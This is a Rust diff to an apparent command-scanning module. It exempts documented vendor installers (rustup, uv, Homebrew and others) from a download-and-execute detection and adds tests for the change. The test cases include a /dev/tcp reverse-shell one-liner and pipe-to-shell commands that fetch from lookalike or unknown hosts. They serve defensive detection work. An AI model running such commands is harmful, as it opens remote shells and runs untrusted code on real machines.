@@ -482,11 +482,93 @@ pub fn command_techniques(text: &str) -> Vec<(Technique, &'static str)> {
     };
     let mut out = Vec::new();
     for (k, r, d) in COMMAND_PATTERNS.iter() {
-        if r.is_match(t) && !out.iter().any(|(o, _)| o == k) {
+        if out.iter().any(|(o, _)| o == k) {
+            continue;
+        }
+        // A vendor's documented installer (`curl https://sh.rustup.rs | sh`) is how that tool
+        // is installed, not a download of someone else's code.
+        let found = if *k == Technique::DownloadExecute {
+            r.find_iter(t)
+                .any(|m| !vendor_installer(line_around(t, m.start())))
+        } else {
+            r.is_match(t)
+        };
+        if found {
             out.push((*k, *d));
         }
     }
     out
+}
+
+/// The line of `text` holding byte `at`.
+pub fn line_around(text: &str, at: usize) -> &str {
+    let start = text[..at.min(text.len())].rfind('\n').map_or(0, |i| i + 1);
+    let end = text[start..].find('\n').map_or(text.len(), |i| start + i);
+    &text[start..end]
+}
+
+/// Installers the vendors of widely used tools publish for piping into a shell, by host and
+/// path prefix (rustup, uv, Deno, Bun, Homebrew, nvm, Poetry, pnpm, Fly.io, Docker, Ollama,
+/// …). Over HTTPS only.
+const VENDOR_INSTALLERS: &[(&str, &str)] = &[
+    ("sh.rustup.rs", ""),
+    ("static.rust-lang.org", "/rustup/"),
+    ("astral.sh", "/uv/"),
+    ("astral.sh", "/ruff/"),
+    ("deno.land", "/install"),
+    ("deno.land", "/x/install"),
+    ("bun.sh", "/install"),
+    ("raw.githubusercontent.com", "/Homebrew/install/"),
+    ("raw.githubusercontent.com", "/nvm-sh/nvm/"),
+    ("raw.githubusercontent.com", "/helm/helm/"),
+    ("install.python-poetry.org", ""),
+    ("get.pnpm.io", "/install"),
+    ("fly.io", "/install."),
+    ("get.docker.com", ""),
+    ("ollama.com", "/install."),
+    ("sdk.cloud.google.com", ""),
+    ("get.sdkman.io", ""),
+    ("pyenv.run", ""),
+    ("get.volta.sh", ""),
+    ("starship.rs", "/install.sh"),
+    ("tailscale.com", "/install.sh"),
+    ("get.k3s.io", ""),
+    ("mise.run", ""),
+    ("pixi.sh", "/install."),
+    ("nixos.org", "/nix/install"),
+    ("install.determinate.systems", "/nix"),
+    ("dot.net", "/v1/dotnet-install."),
+    ("cli.doppler.com", "/install.sh"),
+    ("claude.ai", "/install."),
+];
+
+/// Whether every address on a line is a vendor's documented installer (and there is one).
+pub fn vendor_installer(line: &str) -> bool {
+    let lower = line.to_ascii_lowercase();
+    let mut seen = false;
+    for (i, _) in lower.match_indices("://") {
+        let scheme_start = lower[..i]
+            .rfind(|c: char| !c.is_ascii_alphanumeric())
+            .map_or(0, |j| j + 1);
+        if &lower[scheme_start..i] != "https" {
+            return false;
+        }
+        let rest = &line[i + 3..];
+        let end = rest
+            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '|' | ')' | ';' | '`'))
+            .unwrap_or(rest.len());
+        let url = &rest[..end];
+        let (host, path) = url.split_at(url.find('/').unwrap_or(url.len()));
+        let host = host.to_ascii_lowercase();
+        if !VENDOR_INSTALLERS
+            .iter()
+            .any(|(h, p)| host == *h && path.starts_with(p))
+        {
+            return false;
+        }
+        seen = true;
+    }
+    seen
 }
 
 /// Programs whose output is the clipboard or the screen.
@@ -671,6 +753,29 @@ mod tests {
         ] {
             assert!(secret_place(p).is_none(), "{p}");
         }
+    }
+
+    #[test]
+    fn vendor_installers_are_told_from_other_downloads() {
+        for l in [
+            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+            "curl -LsSf https://astral.sh/uv/install.sh | sh",
+            "powershell -c \"irm https://astral.sh/uv/install.ps1 | iex\"",
+            "curl -L https://fly.io/install.sh | sh",
+        ] {
+            assert!(vendor_installer(l), "{l}");
+        }
+        for l in [
+            "curl -fsSL http://sh.rustup.rs | sh",
+            "curl -sL https://fly.io.cdn-mirror.dev/install.sh | sh",
+            "curl -sL https://raw.githubusercontent.com/someone/tools/main/install.sh | bash",
+            "curl https://sh.rustup.rs | sh && curl https://get.tools.dev/x | sh",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        ] {
+            assert!(!vendor_installer(l), "{l}");
+        }
+        assert!(command_techniques("curl -L https://fly.io/install.sh | sh").is_empty());
+        assert!(!command_techniques("curl -L https://fly-tools.dev/install.sh | sh").is_empty());
     }
 
     #[test]
